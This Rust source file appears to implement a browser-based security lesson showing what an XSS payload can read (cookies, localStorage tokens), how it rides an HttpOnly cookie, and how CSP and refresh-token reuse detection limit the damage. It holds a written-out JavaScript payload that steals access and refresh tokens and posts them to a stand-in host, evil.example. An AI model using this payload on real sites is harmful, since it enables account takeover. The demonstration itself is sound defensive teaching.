//! Experiment 3. An XSS payload: what it can read, what it can ride, what the CSP stops

use super::*;

/// What experiment 3's payload tries to send away (to a site of its own, not to this API).
#[derive(serde::Serialize)]
struct Loot<'a> {
    cookie: &'a str,
    access: &'a str,
    refresh: &'a str,
}

/// The address the payload sends its loot to: another origin, which the page's
/// `connect-src 'self'` forbids.
pub const EXFILTRATION_URL: &str = "https://evil.example/steal";

/// What the injected script runs, shown on the card, its comments in the page's language
/// (`{read}`, `{ride}`, `{send}`, `{elsewhere}`). The experiment makes exactly these reads and
/// requests through the same browser APIs (the page's strict CSP allows no `eval`, so the
/// payload cannot be injected as text); the attacker's part runs with no cookies.
const XSS_PAYLOAD: &str = r#"// 1. {read}
const loot = { cookie: document.cookie,
  access: localStorage.getItem('authlens.access_token'),
  refresh: localStorage.getItem('authlens.refresh_token') };
// 2. {ride}
fetch('/api/session/cart', { method: 'POST',
  headers: { 'Content-Type': 'application/json' },
  body: '{"item":"added by the XSS payload"}' });
// 3. {send}
fetch('https://evil.example/steal',
  { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
// 4. {elsewhere}
//    POST /api/jwt/refresh {"refresh_token": loot.refresh}"#;

/// The payload as the card shows it, commented in `texts`' language.
pub(super) fn xss_payload(texts: &ExperimentTexts) -> String {
    fill_named(
        XSS_PAYLOAD,
        &[
            ("read", texts.e3_comment_read.to_owned()),
            ("ride", texts.e3_comment_ride.to_owned()),
            ("send", texts.e3_comment_send.to_owned()),
            ("elsewhere", texts.e3_comment_elsewhere.to_owned()),
        ],
    )
}

/// The item the payload adds to the victim's cart with the cookie it cannot read.
const PAYLOAD_CART_ITEM: &str = "added by the XSS payload";

#[lazy]
pub(super) async fn xss() -> Vec<Line> {
    // The victim: logged in on both columns, as this very page keeps it (the column's
    // cookie and tokens are these).
    post("/api/session/login", &alice()).await;
    let (_, access, refresh) = token_login().await;
    storage::save(ACCESS_TOKEN_KEY, &access);
    storage::save(REFRESH_TOKEN_KEY, &refresh);

    // 1. What the payload reads.
    let stolen_cookie = crate::browser::document_cookie();
    let stolen_access = storage::load(ACCESS_TOKEN_KEY).unwrap_or_default();
    let stolen_refresh = storage::load(REFRESH_TOKEN_KEY).unwrap_or_default();

    // 2. It rides the cookie it cannot read: the browser attaches it to the page's request.
    let ridden = post(
        "/api/session/cart",
        &CartRequest {
            item: PAYLOAD_CART_ITEM.to_owned(),
        },
    )
    .await;
    let cookie_attached = ridden.received_header_with("cookie", SESSION_COOKIE);
    let item_added = ridden
        .json::<SessionResponse>()
        .is_some_and(|answer| answer.cart.iter().any(|item| item == PAYLOAD_CART_ITEM));

    // 3. It sends the loot away; the page's CSP has the last word.
    let loot = Loot {
        cookie: &stolen_cookie,
        access: &stolen_access,
        refresh: &stolen_refresh,
    };
    let loot = serde_json::to_string(&loot).unwrap_or_default();
    let exfiltration = crate::browser::try_exfiltration(EXFILTRATION_URL, loot).await;

    // 4. The attacker, elsewhere (no cookies of this origin): the stolen refresh token mints
    // a fresh pair, and the fresh access token works.
    let stranger = |method, path: &'static str, body, bearer| {
        fetch::send_without_cookies(method, path, body, bearer)
    };
    let minted = stranger(
        Method::Post,
        "/api/jwt/refresh",
        Some(Body::of(&refresh_request(&stolen_refresh))),
        None,
    )
    .await;
    let minted_cookieless = minted.received().iter().all(|line| line.name != "cookie");
    let (attacker_access, attacker_refresh) = minted
        .json::<TokenResponse>()
        .map(|tokens| (tokens.access_token, tokens.refresh_token))
        .unwrap_or_default();
    let as_victim = stranger(Method::Get, "/api/jwt/me", None, Some(attacker_access)).await;
    let victim = as_victim
        .json::<JwtMeResponse>()
        .map(|answer| answer.user.display_name)
        .unwrap_or_default();

    // 5. The victim's client refreshes with the token it holds, which the attacker spent:
    // reuse detection revokes the family, and the attacker's new token dies with it.
    let victim_refresh = post("/api/jwt/refresh", &refresh_request(&refresh)).await;
    let attacker_again = stranger(
        Method::Post,
        "/api/jwt/refresh",
        Some(Body::of(&refresh_request(&attacker_refresh))),
        None,
    )
    .await;
    // The victim's client, refused, forgets its tokens (the column shows it signed out).
    storage::remove(ACCESS_TOKEN_KEY);
    storage::remove(REFRESH_TOKEN_KEY);

    let violation = exfiltration
        .violation
        .clone()
        .map(|(directive, blocked)| format!("{directive} · {blocked}"));
    vec![
        line(
            !stolen_cookie.contains(SESSION_COOKIE),
            |t| t.e3_cookie_read,
            format!("document.cookie = {stolen_cookie:?}"),
        ),
        line(
            !stolen_access.is_empty() && !stolen_refresh.is_empty(),
            |t| t.e3_token_read,
            Detail::Worded(
                |t| t.e3_token_read_detail,
                vec![
                    ("access", stolen_access.len().to_string()),
                    ("refresh", stolen_refresh.len().to_string()),
                ],
            ),
        ),
        line(
            ridden.ok() && cookie_attached && item_added,
            |t| t.e3_cookie_ridden,
            status(&ridden),
        ),
        line(
            exfiltration.failed.is_some() && violation.is_some(),
            |t| t.e3_csp_refused,
            violation.unwrap_or_else(|| {
                exfiltration
                    .failed
                    .clone()
                    .unwrap_or_else(|| "—".to_owned())
            }),
        ),
        line(
            minted.ok() && minted_cookieless,
            |t| t.e3_refresh_minted,
            status(&minted),
        ),
        line(
            as_victim.ok(),
            |t| t.e3_token_used,
            format!("{} → {victim}", status(&as_victim)),
        ),
        line(
            victim_refresh.error_code() == Some(ErrorCode::RefreshTokenReused),
            |t| t.e3_victim_reuse,
            status(&victim_refresh),
        ),
        line(
            attacker_again.error_code() == Some(ErrorCode::RefreshTokenRevoked),
            |t| t.e3_family_dead,
            status(&attacker_again),
        ),
    ]
}

/// What `HttpOnly` protects and what it does not, what CSP adds, and where tokens can live
/// instead: the lesson experiment 3 measures, in a short table.
#[component]
pub(super) fn XssTruths() -> impl IntoView {
    let lang = crate::i18n::use_lang();
    let texts = move || lang.get().experiment_texts();
    type Text = fn(&ExperimentTexts) -> &'static str;
    let rows: [(Text, Text, Text); 3] = [
        (
            |t| t.e3_row_read,
            |t| t.e3_cookie_read_cell,
            |t| t.e3_storage_read_cell,
        ),
        (
            |t| t.e3_row_use_open,
            |t| t.e3_cookie_use_open_cell,
            |t| t.e3_storage_use_open_cell,
        ),
        (
            |t| t.e3_row_use_later,
            |t| t.e3_cookie_use_later_cell,
            |t| t.e3_storage_use_later_cell,
        ),
    ];
    view! {
        <crate::widgets::TableScroll label=Signal::derive(move || texts().e3_table_caption)>
            <table class="xss-truths">
                <caption>{move || texts().e3_table_caption}</caption>
                <thead>
                    <tr>
                        <th scope="col">{move || texts().e3_col_payload}</th>
                        <th scope="col">{move || texts().e3_col_cookie}</th>
                        <th scope="col">{move || texts().e3_col_storage}</th>
                    </tr>
                </thead>
                <tbody>
                    {rows.into_iter().map(|(row, cookie, storage)| view! {
                        <tr>
                            <th scope="row">{move || row(texts())}</th>
                            <td>{move || cookie(texts())}</td>
                            <td>{move || storage(texts())}</td>
                        </tr>
                    }).collect_view()}
                </tbody>
            </table>
        </crate::widgets::TableScroll>
        <p class="muted">{move || texts().e3_csp_note}</p>
        <p class="muted">{move || texts().e3_where_instead}</p>
    }
}
